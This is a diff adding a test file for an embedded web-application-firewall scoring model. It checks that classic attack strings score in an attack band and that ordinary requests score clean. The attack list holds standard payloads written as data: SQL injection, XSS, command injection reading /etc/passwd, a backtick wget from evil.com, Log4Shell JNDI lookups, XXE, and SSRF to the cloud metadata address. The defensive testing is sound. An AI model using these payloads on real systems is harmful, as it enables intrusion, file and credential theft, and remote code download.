@@ -1,0 +1,157 @@
+// The embedded model end to end through core.wasm: unmistakable attacks score in the attack
+// band with the right class lowest; ordinary traffic scores clean; scores are integers 1–99
+// and deterministic. Cases marked `known` fail today; see test/KNOWN-DEVIATIONS.md.
+import { beforeAll, describe, expect, it } from "vitest";
+import { type Core, loadCore } from "../support/core";
+
+let core: Core;
+beforeAll(async () => {
+  core = await loadCore();
+});
+
+interface Attack { where: string; text: string; cls: string; known?: string; classKnown?: string }
+
+// The brief's unmistakable attacks, in the place each naturally arrives.
+const attacks: Attack[] = [
+  { cls: "sqli", where: "query", text: "id=1' OR '1'='1" },
+  { cls: "sqli", where: "query", text: "id=1 UNION SELECT username,password FROM users--" },
+  { cls: "sqli", where: "body:form", text: "user=admin'--&pass=x" },
+  { cls: "sqli", where: "body:json", text: '{"id":"1; DROP TABLE users--"}' },
+  { cls: "sqli", where: "query", text: "id=1 AND SLEEP(5)" },
+  { cls: "xss", where: "query", text: "q=<script>alert(1)</script>" },
+  { cls: "xss", where: "body:json", text: '{"comment":"<img src=x onerror=alert(1)>"}' },
+  { cls: "xss", where: "body:form", text: "c=<svg onload=alert(1)>" },
+  { cls: "xss", where: "query", text: "u=javascript:alert(document.cookie)", classKnown: "model-class-score-high" },
+  { cls: "rce", where: "body:form", text: "host=;cat /etc/passwd" },
+  { cls: "rce", where: "query", text: "x=$(id)", classKnown: "model-class-score-high" },
+  { cls: "rce", where: "query", text: "ip=127.0.0.1|whoami", known: "model-rce-pipe-as-jndi" },
+  { cls: "rce", where: "body:json", text: '{"cmd":"`wget http://evil.com/x.sh`"}', known: "model-rce-backtick-as-xxe" },
+  { cls: "traversal", where: "path", text: "/static/../../../../etc/passwd" },
+  { cls: "traversal", where: "query", text: "file=../../../../etc/passwd" },
+  { cls: "traversal", where: "query", text: "f=..%2F..%2F..%2Fetc%2Fpasswd" },
+  { cls: "jndi", where: "header:User-Agent", text: "${jndi:ldap://evil.com/a}", classKnown: "model-class-score-high" },
+  { cls: "jndi", where: "query", text: "x=${jndi:ldap://evil.com/a}", classKnown: "model-class-score-high" },
+  { cls: "ssti", where: "query", text: "name={{7*7}}" },
+  { cls: "ssti", where: "body:json", text: '{"name":"{{config.__class__.__init__.__globals__}}"}' },
+  { cls: "ssrf", where: "query", text: "url=http://169.254.169.254/latest/meta-data/" },
+  { cls: "xxe", where: "body:xml", text: '<?xml version="1.0"?><!DOCTYPE foo [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><foo>&xxe;</foo>' },
+  { cls: "ldapi", where: "query", text: "user=*)(uid=*))(|(uid=*" },
+  { cls: "nosqli", where: "body:json", text: '{"user":{"$ne":null},"pass":{"$ne":null}}', known: "model-nosqli-ne" },
+  { cls: "crlf", where: "query", text: "next=%0d%0aSet-Cookie:%20a=b", known: "model-crlf-missed" },
+  { cls: "open_redirect", where: "query", text: "next=//evil.com", known: "model-open-redirect-as-ssrf" },
+];
+
+const benign: { name: string; where: string; text: string }[] = [
+  { name: "search query", where: "query", text: "q=how to select a good laptop" },
+  { name: "search with 'union'", where: "query", text: "q=union station chicago hours" },
+  { name: "search with 'drop'", where: "query", text: "q=drop shipping business ideas" },
+  { name: "search with 1=1", where: "query", text: "q=what does 1=1 mean in math" },
+  { name: "search with C++ and C#", where: "query", text: "q=c%2B%2B+vs+c%23" },
+  { name: "catalogue filters", where: "query", text: "q=best+running+shoes+2024&page=2&sort=price_asc" },
+  { name: "price range with &", where: "query", text: "price_min=10&price_max=100&category=shoes%20%26%20boots" },
+  { name: "O'Brien in a query", where: "query", text: "name=O%27Brien&city=Dublin" },
+  { name: "O'Brien in a form", where: "body:form", text: "first=Sean&last=O'Brien&email=sean.obrien%40example.com" },
+  { name: "email with +", where: "query", text: "email=jane.doe%2Btest%40gmail.com" },
+  { name: "local redirect", where: "query", text: "redirect=%2Fdashboard%3Ftab%3Dsettings" },
+  { name: "dates and time zone", where: "query", text: "date=2024-05-01T10:00:00Z&tz=Europe%2FBerlin" },
+  { name: "UUID", where: "query", text: "id=550e8400-e29b-41d4-a716-446655440000" },
+  { name: "JWT in a query", where: "query", text: "token=eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiIxMjM0NTY3ODkwIiwibmFtZSI6IkpvaG4gRG9lIiwiaWF0IjoxNTE2MjM5MDIyfQ.SflKxwRJSf36POk6yJV_adQssw5c" },
+  { name: "JWT bearer header", where: "header:Authorization", text: "Bearer eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiIxMjM0NTY3ODkwIiwibmFtZSI6IkpvaG4gRG9lIiwiaWF0IjoxNTE2MjM5MDIyfQ.SflKxwRJSf36POk6yJV_adQssw5c" },
+  { name: "product review with select/union/drop/O'Brien", where: "body:json", text: '{"review":"I had to select between two models; the union of features is great. Drop me a line if you want details, said Mr O\'Brien. 5 stars!"}' },
+  { name: "review in a form", where: "body:form", text: "comment=Great+article%21+I+learned+a+lot+about+SQL+joins+and+the+UNION+operator." },
+  { name: "JSON profile", where: "body:json", text: '{"name":"O\'Brien","email":"pat@example.com","age":34,"tags":["vip","newsletter"]}' },
+  { name: "JSON order", where: "body:json", text: '{"order":{"items":[{"sku":"AB-123","qty":2},{"sku":"XY-9","qty":1}],"currency":"EUR","coupon":"SPRING10"}}' },
+  { name: "JSON GraphQL query", where: "body:json", text: '{"query":"query { user(id: 42) { name email } }"}' },
+  { name: "JSON with a strong password", where: "body:json", text: '{"password":"Tr0ub4dor&3!","username":"alice"}' },
+  { name: "JSON with harmless HTML", where: "body:json", text: '{"html":"<p>Hello <b>world</b></p>"}' },
+  { name: "plain-text message", where: "body:text", text: "Hello, I would like to know if you ship to Canada. Thanks!" },
+  { name: "Chrome User-Agent", where: "header:User-Agent", text: "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36" },
+  { name: "Safari iOS User-Agent", where: "header:User-Agent", text: "Mozilla/5.0 (iPhone; CPU iPhone OS 17_4 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.4 Mobile/15E148 Safari/604.1" },
+  { name: "Referer URL", where: "header:Referer", text: "https://www.example.com/products/shoes?color=red&size=42" },
+  { name: "Google Referer", where: "header:Referer", text: "https://www.google.com/search?q=wafscore+envoy&oq=wafscore&sourceid=chrome&ie=UTF-8" },
+  { name: "analytics cookie", where: "header:Cookie", text: "_ga=GA1.2.1234567890.1700000000; _gid=GA1.2.987654321.1700000000; _fbp=fb.1.1700000000000.123456789" },
+  { name: "session cookie", where: "header:Cookie", text: "session=3f7a9c2e1b4d8f6a; theme=dark; lang=en-US" },
+  { name: "API path", where: "path", text: "/api/v1/users/42/orders" },
+  { name: "blog path with 'select'", where: "path", text: "/blog/2024/05/how-to-select-the-right-database" },
+  { name: "static asset path", where: "path", text: "/static/js/app.3f9a2c.min.js" },
+];
+
+const min = (o: Record<string, number>) => Math.min(...Object.values(o));
+
+describe("attacks score 1–20 with the right class lowest", () => {
+  for (const a of attacks) {
+    (a.known ? it.fails : it)(`${a.cls} in ${a.where}: ${a.text}`, () => {
+      const r = core.score(a.where, a.text);
+      expect({ score: r.score <= 20, worstClass: r.worstClass, classLowest: r.classes[a.cls] === min(r.classes) })
+        .toEqual({ score: true, worstClass: a.cls, classLowest: true });
+    });
+  }
+});
+
+// Stricter: the class's own score (x-waf-<class>-score) is in the attack band as well, so a
+// rule on the class header catches what the overall score catches.
+describe("the attack's class score is 1–20 too", () => {
+  for (const a of attacks.filter((x) => !x.known)) {
+    (a.classKnown ? it.fails : it)(`${a.cls} in ${a.where}: ${a.text}`, () => {
+      expect(core.score(a.where, a.text).classes[a.cls]).toBeLessThanOrEqual(20);
+    });
+  }
+});
+
+describe("ordinary traffic scores 80–99", () => {
+  it.each(benign)("$name", ({ where, text }) => {
+    const r = core.score(where, text);
+    expect(r.score, `worst class ${r.worstClass}, part ${r.worstWhere}:${r.worstName} "${r.worstText}"`).toBeGreaterThanOrEqual(80);
+  });
+
+  it("a whole ordinary request scores clean", () => {
+    const r = core.scoreRequest([
+      ["path", "/api/v1/orders"], ["query", "page=2&sort=date"],
+      ["header:User-Agent", benign.find((b) => b.name === "Chrome User-Agent")!.text],
+      ["header:Cookie", "session=3f7a9c2e1b4d8f6a; theme=dark"],
+      ["body:json", '{"items":[{"sku":"AB-123","qty":2}],"note":"please select express delivery"}'],
+    ]);
+    expect(r.score).toBeGreaterThanOrEqual(80);
+  });
+});
+
+describe("scores", () => {
+  const all = [...attacks.map((a) => [a.where, a.text]), ...benign.map((b) => [b.where, b.text])] as [string, string][];
+
+  it("are integers within 1–99, overall and per class", () => {
+    for (const [where, text] of all) {
+      const r = core.score(where, text);
+      for (const v of [r.score, ...Object.values(r.classes)]) {
+        expect(Number.isInteger(v) && v >= 1 && v <= 99, `${v} for ${where} ${text}`).toBe(true);
+      }
+    }
+  });
+
+  it("name every head but the overall one as a class", () => {
+    expect(core.heads[0]).toBe("attack");
+    expect(Object.keys(core.score("query", "a=1").classes)).toEqual(core.heads.slice(1));
+  });
+
+  it("are deterministic: the same input twice, and after other requests, scores the same", () => {
+    const first = all.map(([w, t]) => core.score(w, t));
+    const again = all.map(([w, t]) => core.score(w, t));
+    const reversed = [...all].reverse().map(([w, t]) => core.score(w, t)).reverse();
+    expect(again).toEqual(first);
+    expect(reversed).toEqual(first);
+  });
+
+  it("are 99 for a request with nothing to score", () => {
+    const r = core.scoreRequest([["path", ""], ["query", ""], ["body:json", "{}"]]);
+    expect(r.score).toBe(99);
+    expect(r.parts).toBe(0);
+  });
+
+  it("of a request are the worst over its parts, whatever their order", () => {
+    const parts: [string, string][] = [["path", "/search"], ["query", "q=shoes"], ["header:User-Agent", "curl/8.5.0"], ["body:form", "c=<svg onload=alert(1)>"]];
+    const whole = core.scoreRequest(parts);
+    const single = parts.map(([w, t]) => core.score(w, t));
+    expect(whole.score).toBe(Math.min(...single.map((s) => s.score)));
+    for (const k of Object.keys(whole.classes)) expect(whole.classes[k]).toBe(Math.min(...single.map((s) => s.classes[k])));
+    expect(core.scoreRequest([...parts].reverse()).score).toBe(whole.score);
+  });
+});
